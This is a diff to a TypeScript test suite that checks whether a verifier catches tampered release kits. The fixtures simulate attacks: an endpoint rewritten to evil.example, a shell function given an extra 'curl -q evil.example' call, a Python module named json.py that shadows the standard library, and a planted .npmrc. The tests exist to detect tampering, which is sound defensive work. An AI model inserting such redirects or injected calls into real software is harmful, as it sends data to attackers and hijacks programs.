@@ -53,11 +53,11 @@ describe("a kit whose own sums hold", () => {
 
   const ROWS: readonly (readonly [what: string, fault: string, change: Tampering])[] = [
     ["a program that sends data elsewhere", "python/handoff.py names https://evil.example", inside("python/handoff.py", "https://registry.example/api", "https://evil.example/api")],
-    ["a program that does one thing more", "python/handoff.py is not the program of the other kits", inside("python/handoff.py", /$/, "import os\n")],
-    ["a proxy that a program may use, named like the recipe", "curl/handoff.sh is not the program of the other kits", inside("curl/handoff.sh", "--noproxy '*'", `--noproxy '${ID}*'`)],
+    ["a program that does one thing more", "python/handoff.py is not this version's program", inside("python/handoff.py", /$/, "import os\n")],
+    ["a proxy that a program may use, named like the recipe", "curl/handoff.sh is not this version's program", inside("curl/handoff.sh", "--noproxy '*'", `--noproxy '${ID}*'`)],
     ["another classifier", "node/classify.mjs is not assets/classify.", inside("node/classify.mjs", "status !== 200", "status > 299")],
-    ["a program less", "curl/handoff.sh is not the program of the other kits", removed("curl/handoff.sh")],
-    ["a program more", "python/evil.py is not the program of the other kits", added("python/evil.py")],
+    ["a program less", "curl/handoff.sh is missing", removed("curl/handoff.sh")],
+    ["a program more", "python/evil.py does not belong in a kit", added("python/evil.py")],
     ["a file more", "extra.txt does not belong in a kit", added("extra.txt")],
     ["a file less", "tool.json is missing", removed("tool.json")],
     ["another report", "report.json is not api/v1/integration-readiness/report", inside("report.json", '"passed": true', '"passed": false')],
@@ -86,12 +86,18 @@ describe("a kit whose own sums hold", () => {
     expect(await judge(change)).toContainEqual(expect.stringContaining(`${KIT}: ${fault}`));
   });
 
-  it("is found in each of the five when a file is changed that the documents tell", async () => {
+  it.each<[what: string, fault: string, change: (files: Files) => void]>([
+    ["its live address", "python/handoff.py is not this version's program", (files) => swap(files, "python/handoff.py", "https://registry.example/api", "https://evil.example/api")],
+    ["what its shell does besides", "curl/handoff.sh is not this version's program", (files) => swap(files, "curl/handoff.sh", "ask() {", "ask() {\n  curl -q evil.example")],
+    ["its classifier", "curl/classify.awk is not this version's program", (files) => swap(files, "curl/classify.awk", '"abstained"', '"unsure"')],
+    ["a module that Python could take for its own", "python/json.py does not belong in a kit", (files) => files.set("python/json.py", Buffer.from("import os\n"))],
+    ["a hidden file", "node/.npmrc does not belong in a kit", (files) => files.set("node/.npmrc", Buffer.from(""))],
+  ])("is found when %s is the same in all five", async (_what, fault, change) => {
     const faults = await faultsAfter(dist, async (copy) => {
-      for (const id of RECIPE_IDS) await copy.kit(id, (files) => swap(files, "python/handoff.py", "https://registry.example/api", "https://evil.example/api"));
-    }); // prettier-ignore
-    expect(faults.filter((text) => text.includes("python/handoff.py does not call")).length).toBe(5);
-  });
+      for (const id of RECIPE_IDS) await copy.kit(id, change);
+    });
+    expect(faults.filter((text) => text.endsWith(`: ${fault}`)).length).toBe(5);
+  }); // prettier-ignore
 
   it("and another command in its manifest is found by the studio", async () => {
     const faults = await faultsAfter(dist, (copy) =>
